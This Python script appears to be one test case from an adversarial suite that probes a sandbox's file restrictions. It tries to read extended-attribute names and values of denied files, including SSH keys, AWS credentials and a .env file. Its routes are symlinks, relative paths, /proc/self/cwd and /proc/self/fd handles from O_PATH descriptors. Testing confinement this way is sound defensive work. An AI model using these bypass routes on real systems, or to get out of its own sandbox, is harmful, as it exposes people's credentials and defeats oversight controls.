# technique: read xattr values and names of denied files (getxattr, lgetxattr, listxattr by path, relative, through a symlink, /proc/self/fd of an O_PATH descriptor, /proc/self/cwd)
# fast: yes
import os
env = dict(l.strip().split("=", 1) for l in open(".adv/world.env"))
home = env["HOME"]
targets = [env["SECRET"], home + "/.ssh", home + "/.aws/credentials", env["OUTSIDE"], env["PROJECT"] + "/.env",
           "../.ssh/id_rsa", "/proc/self/cwd/../.aws/credentials"]
try:
    os.symlink(env["SECRET"], "via-link")
    targets.append("via-link")
except OSError as e:
    print("symlink", e)
for p in list(targets[:5]):
    try:
        fd = os.open(p, os.O_PATH)
        targets.append("/proc/self/fd/%d" % fd)
        targets.append("/dev/fd/%d" % fd)
    except OSError as e:
        print("O_PATH", p, e)
def attempt(label, f):
    try:
        print(label, f())
    except OSError as e:
        print(label, e)
for p in targets:
    for follow in (True, False):
        attempt("list %s follow=%s" % (p, follow), lambda: os.listxattr(p, follow_symlinks=follow))
        attempt("get %s follow=%s" % (p, follow), lambda: os.getxattr(p, "user.aixadv", follow_symlinks=follow))
        try:
            for name in os.listxattr(p, follow_symlinks=follow):
                attempt("get %s %s" % (p, name), lambda: os.getxattr(p, name, follow_symlinks=follow))
        except OSError:
            pass
